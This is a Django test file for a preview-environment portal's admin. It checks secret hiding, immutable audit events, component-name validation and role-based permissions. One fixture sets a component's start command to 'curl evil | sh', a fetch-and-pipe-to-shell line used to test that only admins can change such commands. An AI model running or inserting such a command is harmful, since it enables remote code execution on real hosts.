"""The Django admin: every model is registered and opens, and no secret is shown in it."""

import pytest
from django.contrib.auth.models import Group, Permission, User
from django.test import Client
from django.urls import reverse

from environments import audit, crypto, demo, roles, services, tokens
from environments.models import (
    ApiToken,
    AuditEvent,
    Component,
    DbSlot,
    Environment,
    EnvironmentStatus,
    Interface,
    Project,
    Run,
    WebhookDelivery,
)


@pytest.fixture
def staff_client(db) -> Client:
    client = Client()
    client.force_login(User.objects.create_superuser("root", password="pw-root"))
    return client


def test_every_model_has_a_list_and_a_change_page(staff_client, demo_project, pool_of, developer):
    pool_of(1)
    environment = Environment.objects.create(
        project=demo_project, branch="main", env_key="k", status=EnvironmentStatus.READY
    )
    services.teardown(environment, actor=developer, interface=Interface.WEB)
    tokens.create(developer, "ci")
    delivery = WebhookDelivery.objects.create(delivery_id="d-1", event="ping")
    for model in (demo_project, environment, Run.objects.get(), DbSlot.objects.get(),
                  AuditEvent.objects.get(), ApiToken.objects.get(), delivery):
        meta = model._meta
        changelist = reverse(f"admin:{meta.app_label}_{meta.model_name}_changelist")
        change = reverse(f"admin:{meta.app_label}_{meta.model_name}_change", args=[model.pk])
        assert staff_client.get(changelist).status_code == 200, changelist
        assert staff_client.get(change).status_code == 200, change


def test_api_tokens_and_slots_show_no_secret(staff_client, developer, pool_of):
    pool_of(1)
    token = tokens.create(developer, "ci")
    stored = ApiToken.objects.get()
    slot = DbSlot.objects.get()

    token_page = staff_client.get(
        reverse("admin:environments_apitoken_change", args=[stored.pk])).content.decode()
    slot_page = staff_client.get(
        reverse("admin:environments_dbslot_change", args=[slot.pk])).content.decode()

    assert stored.prefix in token_page
    assert token not in token_page and stored.digest not in token_page
    assert "secret" not in slot_page.lower()


def test_audit_events_cannot_be_edited_or_deleted(staff_client, developer):
    audit.record(developer, Interface.WEB, "launch")
    event = AuditEvent.objects.get()

    staff_client.post(reverse("admin:environments_auditevent_change", args=[event.pk]),
                      {"action": "forged"})
    response = staff_client.post(
        reverse("admin:environments_auditevent_delete", args=[event.pk]), {"post": "yes"})

    assert response.status_code == 403
    assert AuditEvent.objects.get().action == "launch"


def test_a_project_webhook_secret_is_write_only(staff_client, demo_project):
    url = reverse("admin:environments_project_change", args=[demo_project.pk])
    form = {"name": "demo", "repository": demo_project.repository,
            "github_repository": "preview-portal/demo", "new_webhook_secret": "s3cret-hook",
            "components-TOTAL_FORMS": "0", "components-INITIAL_FORMS": "0"}

    response = staff_client.post(url, form)
    stored = Project.objects.get().webhook_secret

    assert response.status_code == 302, response.content.decode()[:2000]
    assert crypto.unseal(stored) == "s3cret-hook"
    page = staff_client.get(url).content.decode()
    assert "s3cret-hook" not in page and stored not in page

    staff_client.post(url, {**form, "new_webhook_secret": ""})
    assert Project.objects.get().webhook_secret == stored  # empty keeps it
    staff_client.post(url, {**form, "new_webhook_secret": "", "clear_webhook_secret": "on"})
    assert Project.objects.get().webhook_secret == ""


def test_admins_set_quotas_smoke_and_manifests_of_a_project_and_a_users_quota(
        staff_client, demo_project, developer):
    from environments.models import UserQuota

    page = staff_client.get(reverse("admin:environments_project_change",
                                    args=[demo_project.pk])).content.decode()
    added = staff_client.post(reverse("admin:environments_userquota_add"),
                              {"user": developer.pk, "max_live_environments": 2})

    for field in ("max_live_environments", "smoke", "base_manifests", "deploy_drafts",
                  "deploy_forks", "new_webhook_secret"):
        assert f'name="{field}"' in page
    assert added.status_code == 302
    assert UserQuota.objects.get(user=developer).max_live_environments == 2


@pytest.mark.parametrize(("name", "saved"), [("2fa", False), ("web-2", True)])
def test_a_component_name_must_start_with_a_letter_as_kubernetes_service_names_do(
        staff_client, name, saved):
    response = staff_client.post(reverse("admin:environments_project_add"), {
        "name": "shop", "repository": "/srv/git/shop.git", "smoke": "{}",
        "components-TOTAL_FORMS": "1", "components-INITIAL_FORMS": "0",
        "components-0-name": name, "components-0-position": "0", "components-0-port": "8000",
        "components-0-health_paths": "[]", "components-0-env_vars": "{}",
        "components-0-exposed": "on",
    })

    assert Project.objects.filter(components__name=name).exists() == saved
    if not saved:
        assert response.status_code == 200
        assert "starting with a letter" in response.content.decode()


def staff_in(role: str, *permissions: str) -> Client:
    """A staff account (it may open the admin) in a portal role, with these Django
    permissions."""
    user = User.objects.create_user(f"staff-{role}", password="pw", is_staff=True)
    user.groups.add(Group.objects.get_or_create(name=role)[0])
    user.user_permissions.add(*Permission.objects.filter(codename__in=permissions))
    client = Client()
    client.force_login(user)
    return client


def project_form(project: Project, **changes: str) -> dict[str, str]:
    """The project's change form, with one new component (`start_command`: a shell)."""
    return {"name": project.name, "repository": project.repository,
            "github_repository": project.github_repository,
            "components-TOTAL_FORMS": "1", "components-INITIAL_FORMS": "0",
            "components-0-position": "9", "components-0-name": "shell",
            "components-0-port": "8000", "components-0-health_paths": "[]",
            "components-0-env_vars": "{}", "components-0-start_command": "curl evil | sh",
            **changes}


EVERY_PROJECT_PERMISSION = [f"{verb}_{model}" for verb in ("add", "change", "delete", "view")
                            for model in ("project", "component")]


def test_staff_without_the_admin_role_cannot_edit_projects_whatever_django_permits(
        demo_project):
    client = staff_in(roles.DEVELOPER, *EVERY_PROJECT_PERMISSION)
    change = reverse("admin:environments_project_change", args=[demo_project.pk])
    before = list(Component.objects.values_list("name", "start_command"))

    changed = client.post(change, project_form(demo_project, repository="/elsewhere"))
    added = client.post(reverse("admin:environments_project_add"),
                        project_form(demo_project, name="shop"))
    deleted = client.post(reverse("admin:environments_project_delete", args=[demo_project.pk]),
                          {"post": "yes"})

    assert (changed.status_code, added.status_code, deleted.status_code) == (403, 403, 403)
    assert list(Project.objects.values_list("name", "repository")) == [
        ("demo", demo_project.repository)]
    assert list(Component.objects.values_list("name", "start_command")) == before
    page = client.get(change).content.decode()  # what it may do: look
    assert 'name="components-0-start_command"' not in page
    assert 'name="_save"' not in page


def test_the_admin_role_edits_projects_and_their_components_in_the_admin(demo_project):
    client = staff_in(roles.ADMIN)  # no Django permission at all
    change = reverse("admin:environments_project_change", args=[demo_project.pk])

    index = client.get(reverse("admin:index")).content.decode()
    changed = client.post(change, project_form(demo_project))

    assert reverse("admin:environments_project_changelist") in index
    assert changed.status_code == 302, changed.content.decode()[:2000]
    assert Component.objects.get(name="shell").start_command == "curl evil | sh"


def test_registering_the_demo_again_keeps_an_admins_edits(demo_project, demo_repo) -> None:
    """`make run` registers the demo at every start."""
    demo_project.smoke = {"tests": "smoke"}
    demo_project.save()
    demo_project.components.filter(name="web").update(image="registry.local/web:{commit}")

    again = demo.register(demo_repo)

    assert again.smoke == {"tests": "smoke"}
    assert again.components.get(name="web").image == "registry.local/web:{commit}"
